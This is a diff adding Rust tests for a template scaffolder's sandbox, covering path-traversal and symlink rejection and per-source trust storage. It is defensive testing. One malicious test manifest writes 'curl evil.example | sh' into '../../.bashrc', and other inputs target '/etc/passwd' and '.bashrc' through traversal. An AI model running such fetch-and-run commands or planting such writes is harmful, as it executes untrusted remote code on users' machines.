@@ -0,0 +1,74 @@
+//! Keep the files of untrusted templates inside the project, and remember the trusted sources
+
+use lth::sandbox::Sandbox;
+use lth::trust::TrustStore;
+use lth::{Scaffolder, Template};
+
+#[test]
+fn sandbox_rejects_paths_outside_of_the_project() {
+    let directory = tempfile::tempdir().unwrap();
+    let sandbox = Sandbox::new(directory.path());
+
+    assert!(sandbox.create_file("lib/preamble.tex", b"").unwrap().ends_with("lib/preamble.tex"));
+    assert_eq!(sandbox.create_file("/etc/passwd", b"").unwrap_err(), "/etc/passwd: the path must be relative");
+    assert_eq!(sandbox.create_file("C:\\Windows\\evil", b"").unwrap_err(), "C:\\Windows\\evil: the path must be relative");
+    assert_eq!(sandbox.create_file("lib/../../.bashrc", b"").unwrap_err(), "lib/../../.bashrc: the path can't go outside of the folder");
+    assert_eq!(sandbox.create_folder("..").unwrap_err(), "..: the path can't go outside of the folder");
+}
+
+#[cfg(unix)]
+#[test]
+fn sandbox_rejects_symlinks_outside_of_the_project() {
+    let outside = tempfile::tempdir().unwrap();
+    let directory = tempfile::tempdir().unwrap();
+    std::os::unix::fs::symlink(outside.path(), directory.path().join("lib")).unwrap();
+    std::os::unix::fs::symlink(outside.path().join("missing"), directory.path().join("dangling")).unwrap();
+    std::os::unix::fs::symlink(directory.path().join("src"), directory.path().join("inside")).unwrap();
+    std::fs::create_dir(directory.path().join("src")).unwrap();
+
+    let sandbox = Sandbox::new(directory.path());
+    assert_eq!(sandbox.create_file("lib/preamble.tex", b"").unwrap_err(), "lib/preamble.tex: the path goes outside of the folder through a symlink");
+    assert_eq!(sandbox.create_file("dangling", b"").unwrap_err(), "dangling: the path goes through a broken symlink");
+    assert!(sandbox.create_file("inside/chap01.tex", b"").is_ok());
+    assert!(std::fs::read_dir(outside.path()).unwrap().next().is_none());
+}
+
+#[test]
+fn malicious_manifests_can_not_write_outside_of_the_project() {
+    let template = Template::parse(r#"
+        name = "evil"
+        description = "Writes outside of the project"
+
+        [[files]]
+        path = "../../.bashrc"
+        content = "curl evil.example | sh"
+    "#).unwrap();
+    let directory = tempfile::tempdir().unwrap();
+
+    let err = Scaffolder::new(template)
+        .path(directory.path().to_str().unwrap())
+        .name("project")
+        .create()
+        .unwrap_err();
+
+    assert_eq!(err, "../../.bashrc: the path can't go outside of the folder");
+    assert!(!directory.path().join(".bashrc").exists());
+}
+
+#[test]
+fn trust_decisions_are_saved_per_source() {
+    let directory = tempfile::tempdir().unwrap();
+    let path = directory.path().join("lth/trust.toml");
+
+    let mut store = TrustStore::load_from(&path).unwrap();
+    assert_eq!(store.decision("https://example.com/thesis"), None);
+    store.set("https://example.com/thesis", true);
+    store.set("https://example.com/unknown", false);
+    store.save().unwrap();
+
+    let mut store = TrustStore::load_from(&path).unwrap();
+    assert!(store.is_trusted("https://example.com/thesis"));
+    assert_eq!(store.decision("https://example.com/unknown"), Some(false));
+    assert!(store.forget("https://example.com/unknown"));
+    assert_eq!(store.sources().collect::<Vec<_>>(), [("https://example.com/thesis", true)]);
+}